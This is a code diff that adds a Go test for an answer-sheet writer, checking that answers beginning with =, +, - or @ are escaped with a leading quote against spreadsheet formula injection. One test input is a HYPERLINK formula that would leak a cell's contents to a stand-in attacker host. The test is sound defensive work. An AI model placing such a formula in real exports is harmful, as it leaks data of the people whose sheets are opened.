@@ -341,3 +341,33 @@ func TestWriteEmpty(t *testing.T) {
 		t.Errorf("Read = %v, %v; want no responses", out, err)
 	}
 }
+
+// A text answer that a spreadsheet would run as a formula is written with
+// a quote before it (the OWASP rule), and reads back as it was typed.
+func TestWriteNeutralisesFormulas(t *testing.T) {
+	f := sheetFramework(t)
+	texts := []string{`=HYPERLINK("https://evil.example/?leak="&A1,"click")`, "+1", "-3", "@SUM(A1)", "'=typed with a quote", "plain"}
+	var in []assessment.Response
+	for _, s := range texts {
+		in = append(in, assessment.Response{Answers: map[string]assessment.Answer{"notes": {Text: s}}})
+	}
+	var buf bytes.Buffer
+	if err := answersheet.Write(&buf, f, in); err != nil {
+		t.Fatal(err)
+	}
+	written := buf.String()
+	for _, want := range []string{`'=HYPERLINK(""https://`, ",'+1\n", ",'-3\n", ",'@SUM(A1)\n", ",''=typed with a quote\n", ",plain\n"} {
+		if !strings.Contains(written, want) {
+			t.Errorf("the sheet lacks %q:\n%s", want, written)
+		}
+	}
+	out, err := answersheet.Read(&buf, f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, s := range texts {
+		if got := out[i].Answers["notes"].Text; got != s {
+			t.Errorf("text %d read back as %q, want %q", i, got, s)
+		}
+	}
+}
